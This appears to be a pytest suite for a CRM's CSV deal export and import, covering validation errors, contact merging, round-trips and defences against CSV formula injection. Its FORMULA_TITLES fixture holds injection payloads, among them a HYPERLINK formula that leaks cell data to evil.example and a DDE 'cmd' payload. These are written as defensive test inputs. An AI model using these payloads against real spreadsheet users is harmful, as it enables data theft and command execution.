"""Deals out and in as CSV: export everything; import a file only when every row is right."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from crm_core.domain.deals import Priority, Source
from crm_core.domain.errors import CrmError, InvalidInput
from crm_core.domain.history import EventKind
from crm_core.domain.users import Role
from crm_core.ports import FixedClock
from crm_core.services import Crm
from crm_core.services.transfer import EXPORT_COLUMNS, ImportError_
from tests.integration.support import Team, deal_count

HEADER = "title,stage,owner_telegram_id,contact_name,phone,amount,currency,priority,created_at,lost_reason\n"


async def exported(crm: Crm) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(await crm.transfer.export_csv()))))


async def test_every_deal_is_exported_with_its_figures_as_text(
    crm: Crm, team: Team, clock: FixedClock
) -> None:
    deal = await crm.deals.create(
        actor=team.alice,
        title="ООО «Ёлка», заказ",
        amount="1 500,5",
        phone="8 495 123-45-67",
        contact_name="Пётр",
    )
    lost = await crm.deals.create(actor=team.bob, title="شركة النور")
    await crm.deals.mark_lost(deal_id=lost.id, reason="Price", actor=team.bob)
    lines = list(await crm.transfer.export_csv())
    assert lines[0] == ",".join(EXPORT_COLUMNS) + "\n"
    rows = await exported(crm)
    assert rows[0] == {
        "id": str(deal.id),
        "title": "ООО «Ёлка», заказ",
        "pipeline": "Sales",
        "stage": "Unsorted",
        "owner_telegram_id": "201",
        "owner_name": "Alice",
        "contact_name": "Пётр",
        "phone": "+74951234567",
        "amount": "1500.50",
        "currency": "RUB",
        "source": "manual",
        "priority": "normal",
        "created_at": clock.now().isoformat(),
        "stage_entered_at": clock.now().isoformat(),
        "closed_at": "",
        "lost_reason": "",
    }
    assert (rows[1]["title"], rows[1]["stage"], rows[1]["lost_reason"], rows[1]["amount"]) == (
        "شركة النور",
        "Lost",
        "Price",
        "",
    )


async def test_a_good_file_is_imported_whole(crm: Crm, team: Team, clock: FixedClock) -> None:
    text = HEADER + (
        'Roof repair,Opportunity,201,Иван,8 (495) 123-45-67,"1 500,50",,high,2026-01-15T10:00:00+03:00,\n'
        "Old order,lost,202,,,99.99,USD,,,No budget\n"
        "Walk-in,,,,,,,,,\n"
    )
    result = await crm.transfer.import_csv(text)
    assert (result.imported, result.errors) == (3, [])
    roof, old, walk_in = (
        await crm.deals.list_deals(actor=team.boss, stage="Opportunity")
        + await crm.deals.list_deals(actor=team.boss, stage="Lost")
        + await crm.deals.list_deals(actor=team.boss, stage="Unsorted")
    )
    assert (roof.title, roof.amount, roof.priority, roof.source) == (
        "Roof repair",
        Decimal("1500.50"),
        Priority.HIGH,
        Source.IMPORT,
    )
    assert roof.owner is not None and roof.owner.name == "Alice"
    assert roof.contact is not None and (roof.contact.name, roof.contact.phone) == ("Иван", "+74951234567")
    assert roof.created_at == datetime(2026, 1, 15, 7, 0, tzinfo=UTC)
    assert (old.currency, old.lost_reason, old.is_closed, old.amount) == (
        "USD",
        "No budget",
        True,
        Decimal("99.99"),
    )
    assert (walk_in.owner, walk_in.currency, walk_in.created_at) == (None, "RUB", clock.now())
    [created] = await crm.deals.history(deal_id=roof.id, actor=team.boss)
    assert (created.kind, created.actor_system) == (EventKind.CREATED, "import line 2")


async def test_a_file_with_bad_rows_is_refused_whole_naming_each_bad_line_and_why(
    crm: Crm, team: Team
) -> None:
    text = HEADER + (
        "Good one,,,,,,,,,\n"  # line 2
        "Bad phone,,,,12345,,,,,\n"  # line 3
        "Bad amount,,,,,-5,,,,\n"  # line 4
        "Bad stage,Negotiation,,,,,,,,\n"  # line 5
        "Bad owner,,999,,,,,,,\n"  # line 6
        ",,,,,,,,,\n"  # line 7: no title
        "No reason,Lost,,,,,,,,\n"  # line 8
        "Bad priority,,,,,,,urgent,,\n"  # line 9
        "Bad date,,,,,,,,yesterday,\n"  # line 10
        "Bad currency,,,,,,rubles,,,\n"  # line 11
    )
    with pytest.raises(ImportError_) as refusal:
        await crm.transfer.import_csv(text)
    reasons = {e.line: e.reason for e in refusal.value.errors}
    assert sorted(reasons) == [3, 4, 5, 6, 7, 8, 9, 10, 11]
    assert "phone" in reasons[3]
    assert "amount" in reasons[4]
    assert "Negotiation" in reasons[5]
    assert "999" in reasons[6]
    assert "title" in reasons[7]
    assert "lost_reason" in reasons[8]
    assert "urgent" in reasons[9]
    assert "yesterday" in reasons[10]
    assert "currency" in reasons[11]
    assert str(refusal.value).startswith("Nothing was imported: 9 bad row(s): line 3: ")
    assert await deal_count(crm) == 0


async def test_a_bad_row_spanning_several_lines_is_reported_at_the_line_it_starts_on(
    crm: Crm, team: Team
) -> None:
    text = HEADER + (
        '"A title\non two lines",,,,,abc,,,,\n'  # lines 2-3: a quoted title with a line break, a bad amount
        "Bad phone,,,,12345,,,,,\n"  # line 4
    )
    with pytest.raises(ImportError_) as refusal:
        await crm.transfer.import_csv(text)
    assert [e.line for e in refusal.value.errors] == [2, 4]


async def test_bad_rows_can_be_skipped_and_the_good_ones_imported(crm: Crm, team: Team) -> None:
    text = HEADER + "Good one,,,,,,,,,\nBad amount,,,,,abc,,,,\nAnother good,,,,,10,,,,\n"
    result = await crm.transfer.import_csv(text, skip_bad=True)
    assert result.imported == 2
    assert [(e.line, "amount" in e.reason) for e in result.errors] == [(3, True)]
    assert sorted(d.title for d in await crm.deals.list_deals(actor=team.boss)) == [
        "Another good",
        "Good one",
    ]


async def test_a_file_without_a_title_column_is_refused(crm: Crm, team: Team) -> None:
    with pytest.raises(InvalidInput):
        await crm.transfer.import_csv("name,amount\nRoof,100\n")
    with pytest.raises(InvalidInput):
        await crm.transfer.import_csv("")
    assert await deal_count(crm) == 0


async def test_rows_with_one_phone_share_one_contact(crm: Crm, team: Team) -> None:
    existing = await crm.deals.create(actor=team.alice, title="Existing", phone="+74951234567")
    text = HEADER + "First,,,,8 495 123 45 67,,,,,\nSecond,,,,74951234567,,,,,\n"
    await crm.transfer.import_csv(text)
    contacts = {d.contact.id for d in await crm.deals.list_deals(actor=team.boss) if d.contact}
    assert existing.contact is not None
    assert contacts == {existing.contact.id}


async def test_the_import_report_names_the_customer_each_known_number_belongs_to(
    crm: Crm, team: Team
) -> None:
    existing = await crm.deals.create(
        actor=team.alice, title="Existing", contact_name="Ivan", phone="+74951234567"
    )
    text = (
        HEADER + "Known,,,,8 495 123 45 67,,,,,\nNew,,,,+74957654321,,,,,\nNew again,,,,+74957654321,,,,,\n"
    )
    result = await crm.transfer.import_csv(text)
    assert [(j.line, j.customer.name) for j in result.joined] == [(2, "Ivan"), (4, "+74957654321")]
    assert [r.id for r in result.joined[0].customer.seen] == [existing.id]
    assert str(result.joined[0]) == (
        f"line 2: +74951234567 is Ivan's; it joins their open deals: #{existing.id} Existing"
    )
    assert str(result.joined[1]).startswith(
        "line 4: +74957654321 is +74957654321's; it joins their open deals"
    )


async def test_an_exported_file_imports_back_as_the_same_deals(
    crm: Crm, team: Team, clock: FixedClock
) -> None:
    await crm.deals.create(
        actor=team.alice,
        title='Ёлки, "лучшие"\nв городе',
        amount="1 500,50",
        phone="+74951234567",
        contact_name="Пётр",
        currency="EUR",
    )
    lost = await crm.deals.create(actor=team.bob, title="طلب", stage="Execution")
    await crm.deals.mark_lost(deal_id=lost.id, reason="Chose a competitor", actor=team.bob)
    await crm.deals.create(actor=team.boss, title="Boss's 🚀", amount="0.01")
    original = await exported(crm)
    result = await crm.transfer.import_csv("".join(await crm.transfer.export_csv()))
    assert (result.imported, result.errors) == (3, [])
    copies = [r for r in await exported(crm) if r["source"] == "import"]
    same = [
        "title",
        "stage",
        "owner_telegram_id",
        "contact_name",
        "phone",
        "amount",
        "currency",
        "priority",
        "created_at",
        "lost_reason",
    ]
    assert sorted([{k: r[k] for k in same} for r in copies], key=lambda r: r["title"]) == sorted(
        [{k: r[k] for k in same} for r in original], key=lambda r: r["title"]
    )


# -- formulas (CSV injection) ---------------------------------------------------------------------------

FORMULA_TITLES = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted by hand",  # a title that really starts with a quote before a formula character
    "''+two quotes",
    "'just a quote",
    "-",
]


async def test_cells_that_start_like_a_formula_are_exported_with_a_leading_quote(
    crm: Crm, team: Team
) -> None:
    evil = await crm.users.add(telegram_id=204, name="@Mallory", role=Role.SELLER)
    deal = await crm.deals.create(
        actor=evil, title="=1+1", contact_name="+Ivan", phone="+74951234567", amount="100"
    )
    await crm.deals.mark_lost(deal_id=deal.id, reason="-2+3 cheaper elsewhere", actor=evil)
    [row] = await exported(crm)
    assert (row["title"], row["owner_name"], row["contact_name"], row["lost_reason"]) == (
        "'=1+1",
        "'@Mallory",
        "'+Ivan",
        "'-2+3 cheaper elsewhere",
    )
    assert row["phone"] == "+74951234567"  # a number, which a spreadsheet never runs, is left as it is
    for line in "".join(await crm.transfer.export_csv()).splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("+-").isdigit(), cell


async def test_formula_like_titles_names_and_reasons_come_back_exactly_from_an_export(
    crm: Crm, team: Team
) -> None:
    for number, title in enumerate(FORMULA_TITLES):
        deal = await crm.deals.create(
            actor=team.alice, title=title, contact_name=f"=Contact {number}", phone=f"+7495123456{number}"
        )
        if number % 2:
            await crm.deals.mark_lost(deal_id=deal.id, reason=f"'{title}", actor=team.alice)
    original = await exported(crm)
    result = await crm.transfer.import_csv("".join(await crm.transfer.export_csv()))
    assert (result.imported, result.errors) == (len(FORMULA_TITLES), [])
    copies = [
        (d.title, d.contact.name if d.contact else None, d.lost_reason)
        for d in await crm.deals.list_deals(actor=team.boss)
        if d.source is Source.IMPORT
    ]
    originals = [
        (d.title, d.contact.name if d.contact else None, d.lost_reason)
        for d in await crm.deals.list_deals(actor=team.boss)
        if d.source is not Source.IMPORT
    ]
    assert sorted(copies, key=repr) == sorted(originals, key=repr)
    assert sorted(t for t, _, _ in copies) == sorted(FORMULA_TITLES)
    assert len(original) == len(FORMULA_TITLES)


async def test_a_field_over_the_csv_limit_is_refused_in_one_sentence(crm: Crm, team: Team) -> None:
    text = HEADER + "Fine,,,,,,,,,\n" + '"' + "x" * 200_000 + '",,,,,,,,,\n'
    with pytest.raises(CrmError) as refusal:
        await crm.transfer.import_csv(text)
    assert str(refusal.value) == (
        "Nothing was imported: line 3 cannot be read as CSV: a field is longer than 131072 characters."
    )
    assert await deal_count(crm) == 0
